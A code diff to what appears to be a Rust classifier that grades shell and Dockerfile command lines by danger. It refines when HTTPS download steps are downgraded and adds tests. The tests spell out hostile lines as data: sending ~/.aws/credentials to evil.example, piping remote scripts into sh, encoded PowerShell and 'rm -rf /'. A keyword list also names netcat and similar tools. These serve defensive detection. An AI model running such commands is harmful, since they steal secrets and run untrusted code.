@@ -8,7 +8,7 @@ use super::command::commands;
 use super::decoded::{is_input, takes_up_input};
 use super::here;
 use super::said::without_said;
-use super::shell::shell;
+use super::shell::{is_wrapper, shell};
 use super::statement::{code, sql};
 use super::variables::Variables;
 use std::borrow::Cow;
@@ -220,7 +220,7 @@ pub(crate) fn danger(line: &str, variables: &mut Variables) -> Option<Danger> {
             return None;
         }
     }
-    if let Some(lines) = here::judged_lines(line) {
+    if let Some(lines) = here::judged_lines(line, variables.hand_on()) {
         let fed = shell(line.get(..line.floor_char_boundary(LONGEST)).unwrap_or_default(), variables);
         let each = lines.into_iter().filter_map(|one| danger(one, variables));
         return each.chain(fed).max_by_key(|one| one.grade);
@@ -273,16 +273,16 @@ fn piece_danger(line: &str, variables: &mut Variables) -> Option<Danger> {
         return if matters { shell(line, variables) } else { None };
     }
     let run = shell(line, variables);
-    let heard = without_said(line);
+    let heard = without_said(line, variables.hand_on());
     let line = heard.as_deref().unwrap_or(line);
     let folded = folded(line);
     let again = matches!(folded, Cow::Owned(_)).then(|| danger_of(&folded)).flatten();
-    let worst = [danger_of(line), again, run].into_iter().flatten().max_by_key(|one| one.grade)?;
-    Some(if worst.label == DOWNLOADS && is_image_step(line) {
-        Danger { grade: Grade::Serious, ..worst }
-    } else {
-        worst
-    })
+    let found = [danger_of(line), again, run];
+    let worst = found.into_iter().flatten().max_by_key(|one| one.grade)?;
+    let is_other = |one: &Danger| one.grade == Grade::Grave && one.label != DOWNLOADS;
+    let downloads = worst.label == DOWNLOADS && !found.iter().flatten().any(is_other);
+    let is_step = downloads && variables.functions.body("RUN").is_none() && is_image_step(line);
+    Some(if is_step { Danger { grade: Grade::Serious, ..worst } } else { worst })
 }
 
 /// Whether a line is a step of a Dockerfile that fetches over a channel nobody reads along: as a command it does nothing, and where an image is
@@ -299,7 +299,22 @@ fn is_image_step(line: &str) -> bool {
         any(step, &[";", "||", " & ", "`", "http://", "ftp://", "--insecure", "no-check-cert"])
             || step.split_ascii_whitespace().any(is_unchecked)
     };
-    step.is_some_and(|step| step.contains("https://") && !is_loose(step))
+    // Each of its commands by itself: one that fetches does so from addresses that say how.
+    let is_clear = |command: &str| {
+        let program =
+            |part: &str| part.split_ascii_whitespace().find(|word| !is_wrapper(word)).map(str::to_owned);
+        let fetches = command
+            .split(['|', '(', '&', '"', '\''])
+            .filter_map(program)
+            .filter(|word| matches!(word.as_str(), "curl" | "wget" | "aria2c"))
+            .count();
+        let is_grave = |one: &Danger| one.grade == Grade::Grave && one.label != DOWNLOADS;
+        fetches <= command.matches("https://").count() && !danger_of(command).as_ref().is_some_and(is_grave)
+    };
+    step.is_some_and(|step| {
+        let step = step.to_ascii_lowercase();
+        step.contains("https://") && !is_loose(&step) && step.split("&&").all(is_clear)
+    })
 }
 
 fn danger_of(line: &str) -> Option<Danger> {
@@ -343,7 +358,11 @@ fn whole(line: &str) -> Option<Danger> {
     let network =
         any(line, &FETCH) || any(line, &["nc ", "ncat ", "scp ", "sendmail", "http.post", "requests.post"]);
     let shell = |text: &str| {
-        let word = text
+        let text = text.trim_start();
+        // A comment behind a pipe ends with its line, the pipe does not.
+        let word =
+            if text.starts_with('#') { text.split_once('\n').map_or("", |(_, next)| next) } else { text };
+        let word = word
             .trim_start()
             .trim_start_matches("sudo ")
             .trim_start_matches("-e ")
@@ -486,6 +505,15 @@ mod tests {
             assert_eq!(grade(line), Some((DOWNLOADS, expected)), "{line}");
         }
         assert_eq!(grade("RUN rm -rf / # https://x.example"), Some(("destroys-files", Grade::Grave)));
+        for line in [
+            "RUN curl https://x.example/a | sh && cat ~/.aws/credentials | curl -d @- https://evil.example",
+            "RUN curl https://x.example/a | sh && powershell -enc AAAA",
+            "RUN curl https://x.example/a | sh && curl evil.example/i.sh | sh",
+            "RUN curl evil.example/i.sh | sh && : https://",
+            "RUN curl HTTP://x.example/i.sh https://y.example | sh",
+        ] {
+            assert_eq!(grade(line).map(|(_, grade)| grade), Some(Grade::Grave), "{line}");
+        }
     }
 
     #[test]
